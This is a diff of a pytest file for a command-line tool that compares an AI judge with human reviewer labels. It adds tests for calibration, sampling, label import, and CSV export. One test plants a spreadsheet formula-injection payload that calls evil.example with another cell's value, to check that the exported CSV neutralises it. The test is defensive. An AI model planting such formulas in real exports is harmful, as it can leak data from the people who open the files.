@@ -11,7 +11,9 @@ from pathlib import Path
 
 import pytest
 
+from tasks.drift_checks import operating_points_for
 from tests.flows.cli.cli_support import invoke, read_jsonl
+from warehouse import connect
 
 
 @pytest.fixture(scope="module")
@@ -110,9 +112,6 @@ def test_sample_label_import_stats_calibrate_evaluate(workdir: Path) -> None:
     assert f"Reviewers found {100 * (1 - p_label):.0f} % [" in section
     assert "uses the operating characteristics measured on these labels for symbolic" in section
     assert "Judge vs reviewers" in (workdir / "r.html").read_text(encoding="utf-8")
-    from tasks.drift_checks import operating_points_for
-    from warehouse import connect
-
     with connect(warehouse, read_only=True) as conn:
         points = operating_points_for(conn, rows[0]["evaluator_version"])
     reviewed = [point for point in points.values() if point.source.startswith("reviewer labels")]
@@ -153,6 +152,20 @@ def test_sample_label_import_stats_calibrate_evaluate(workdir: Path) -> None:
     calibrated = [v for v in versions if "+calib=" in v]
     assert len(calibrated) == 1 and versions[calibrated[0]] == 120
     assert calibrated[0].endswith(after[0]["evaluator_version"].split("+calib=")[1])  # the same calibrator
+
+    # the calibrated version's error-rate estimate uses the refit's nested-CV operating point, not
+    # the labels it was fitted on; an older calibrated version keeps its point after a new refit
+    with connect(warehouse, read_only=True) as conn:
+        points = operating_points_for(conn, calibrated[0])
+    assert {point.source.split(" (")[0] for point in points.values()} == {
+        f"nested cross-validation of {artifact['version']}"
+    }
+    figures = artifact["metadata"]["quantification"]
+    assert points["symbolic"].mean_p_correct == figures["mean_p_correct"]
+    refit_again = invoke("review", "calibrate", "--warehouse", warehouse)
+    assert refit_again.exit_code == 0, refit_again.output
+    with connect(warehouse, read_only=True) as conn:
+        assert operating_points_for(conn, calibrated[0]) == points
 
 
 def test_a_bad_file_is_refused_whole_naming_its_lines(workdir: Path) -> None:
@@ -224,3 +237,60 @@ def test_evaluate_refuses_a_file_that_is_not_a_deployment_calibrator(tmp_path: P
     broken.write_text("{not json", encoding="utf-8")
     result = invoke("evaluate", str(logs), "--calibrator", str(broken), "--out", str(tmp_path / "o.jsonl"))
     assert result.exit_code == 2 and "not a calibrator artifact" in result.output
+
+
+def test_labels_of_an_uncertain_sample_do_not_replace_the_operating_point(workdir: Path) -> None:
+    warehouse = str(workdir / "stef-demo.duckdb")
+    review = workdir / "uncertain.csv"
+    sampled = invoke(
+        "review", "sample", "--warehouse", warehouse, "--n", "150", "--strategy", "uncertain", "--seed", "3",
+        "--out", str(review),
+    )  # fmt: skip
+    assert sampled.exit_code == 0, sampled.output
+    rows = _fill(review, _truth(workdir))
+    assert {row["sample_strategy"] for row in rows} == {"uncertain"}
+    assert invoke("review", "import", str(review), "--warehouse", warehouse).exit_code == 0
+    with connect(warehouse, read_only=True) as conn:
+        points = operating_points_for(conn, rows[0]["evaluator_version"])
+    assert not [point for point in points.values() if point.source.startswith("reviewer labels")]
+    report = invoke("report", "--warehouse", warehouse, "--week", "2026-W48", "--out", str(workdir / "r.html"))
+    assert report.exit_code == 0, report.output
+    section = (workdir / "r.md").read_text(encoding="utf-8").split("## Judge vs reviewers\n\n", 1)[1]
+    assert section.startswith("150 reviewed answers") and "from random samples" in section.split("\n## ")[0]
+
+
+def test_the_demo_labels_name_the_quarantined_line_and_import_with_skip_unknown(workdir: Path) -> None:
+    warehouse = str(workdir / "stef-demo.duckdb")
+    labels = workdir / "stef-demo" / "labels.jsonl"
+    refused = invoke("review", "import", str(labels), "--warehouse", warehouse)
+    assert refused.exit_code == 2
+    assert "is a quarantined log line (" in refused.output and "--skip-unknown" in refused.output
+    imported = invoke("review", "import", str(labels), "--warehouse", warehouse, "--skip-unknown")
+    assert imported.exit_code == 0, imported.output
+    stored = len(read_jsonl(labels)) - 1
+    assert f"{stored + 1} labelled rows: {stored} new" in imported.stdout
+    assert "1 rows of answers not stored left out (--skip-unknown)" in imported.stdout
+
+
+def test_a_mistyped_warehouse_is_an_error_and_no_file_is_created(tmp_path: Path) -> None:
+    labels = tmp_path / "labels.csv"
+    labels.write_text("run_id,label\nr1,correct\n", encoding="utf-8")
+    missing = tmp_path / "typo.duckdb"
+    result = invoke("review", "import", str(labels), "--warehouse", str(missing))
+    assert result.exit_code == 2 and "does not exist" in result.output and not missing.exists()
+
+
+def test_sample_csv_cells_that_look_like_formulas_are_written_as_text(workdir: Path) -> None:
+    warehouse = str(workdir / "stef-demo.duckdb")
+    with connect(warehouse) as conn:
+        run_id = conn.execute("SELECT run_id FROM agent_runs ORDER BY run_id LIMIT 1").fetchall()[0][0]
+        conn.execute(
+            'UPDATE agent_runs SET question = \'=HYPERLINK("http://evil.example/"&B2,"open")\' WHERE run_id = ?',
+            [run_id],
+        )
+    review = workdir / "all.csv"
+    assert invoke("review", "sample", "--warehouse", warehouse, "--n", "1000", "--out", str(review)).exit_code == 0
+    with review.open(encoding="utf-8", newline="") as handle:
+        rows = {row["run_id"]: row for row in csv.DictReader(handle)}
+    assert rows[run_id]["question"] == '\'=HYPERLINK("http://evil.example/"&B2,"open")'
+    assert {row["sample_strategy"] for row in rows.values()} == {"all"}
